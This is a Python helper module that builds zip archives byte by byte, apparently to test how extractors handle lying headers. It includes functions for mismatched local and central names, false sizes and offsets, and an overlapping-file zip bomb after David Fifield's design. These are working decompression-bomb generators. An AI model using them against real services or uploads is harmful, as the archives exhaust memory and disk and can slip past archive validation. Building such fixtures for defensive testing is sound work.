"""Zip files written byte by byte, so that they can lie."""

import struct
import zlib
from collections.abc import Iterable
from dataclasses import dataclass, replace

STORED, DEFLATED = 0, 8
_MIB = 1 << 20


@dataclass(frozen=True)
class Entry:
    """One file in a zip. None is the truth; anything else is said instead.

    `local_name` is what the header in front of the content says; `begin` is where the
    directory says that header is.
    """

    name: str
    packed: bytes
    size: int
    crc: int
    method: int = DEFLATED
    flags: int = 0x800
    local_name: str | None = None
    packed_size: int | None = None
    begin: int | None = None
    extra: bytes = b""


def entry(name: str, content: str | bytes, method: int = DEFLATED) -> Entry:
    """An honest file."""
    data = content.encode() if isinstance(content, str) else content
    packed = data
    if method == DEFLATED:
        engine = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
        packed = engine.compress(data) + engine.flush()
    return Entry(name, packed, len(data), zlib.crc32(data), method)


def blanks(mib: int, name: str, *, said: int | None = None) -> Entry:
    """A file of so many MiB of spaces, a thousandth of that when packed.

    The packed block of one MiB is simply repeated, so this costs nothing to make; the
    checksum is wrong, which nobody may live to see.
    """
    engine = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    block = engine.compress(b" " * _MIB) + engine.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(wbits=-zlib.MAX_WBITS).flush()
    size = mib * _MIB if said is None else said
    return Entry(name, block * mib + end, size, 0)


def zipped(entries: Iterable[Entry], comment: bytes = b"") -> bytes:
    """The zip, as the entries tell it."""
    body, directory, count = b"", b"", 0
    for one in entries:
        begin = len(body) if one.begin is None else one.begin
        body += local_header(one) + one.packed
        directory += _central(one, begin)
        count += 1
    return body + ended(directory, count, len(body), comment)


def ended(directory: bytes, count: int, at: int, comment: bytes = b"") -> bytes:
    """A directory and the end of the zip."""
    shown = min(count, 0xFFFF)
    end = struct.pack("<2H2I", shown, shown, len(directory), at)
    said = struct.pack("<H", len(comment)) + comment
    return directory + b"PK\x05\x06" + bytes(4) + end + said


def local_header(one: Entry) -> bytes:
    """What stands in front of the content."""
    name = (one.name if one.local_name is None else one.local_name).encode()
    told = (one.crc, len(one.packed), one.size & 0xFFFFFFFF)
    head = struct.pack("<5H3I2H", 20, one.flags, one.method, 0, 33, *told, len(name), 0)
    return b"PK\x03\x04" + head + name


def _central(one: Entry, begin: int) -> bytes:
    name = one.name.encode()
    packed = len(one.packed) if one.packed_size is None else one.packed_size
    told = (one.crc, packed, one.size & 0xFFFFFFFF)
    head = struct.pack(
        "<6H3I5H2I",
        *(20, 20, one.flags, one.method, 0, 33),
        *told,
        *(len(name), len(one.extra), 0, 0, 0),
        *(0, begin),
    )
    return b"PK\x01\x02" + head + name + one.extra


def quoted_overlap(names: Iterable[str], mib: int) -> bytes:
    """Files that all share one kernel: each quotes the header of the next.

    After David Fifield, "A better zip bomb": a stored block in the packed content
    holds the next file's header, behind which both go on in the same bytes.
    """
    kernel = blanks(mib, "")
    body, files = kernel.packed, list[tuple[Entry, int]]()
    size = kernel.size
    for name in reversed(list(names)):
        if files:
            quoted = len(local_header(files[-1][0]))
            body = struct.pack("<B2H", 0, quoted, quoted ^ 0xFFFF) + body
            size += quoted
        one = replace(kernel, name=name, packed=body, size=size)
        files.append((one, len(body)))
        body = local_header(one) + body
    directory = b"".join(
        _central(one, len(body) - left - len(local_header(one)))
        for one, left in reversed(files)
    )
    return body + ended(directory, len(files), len(body))
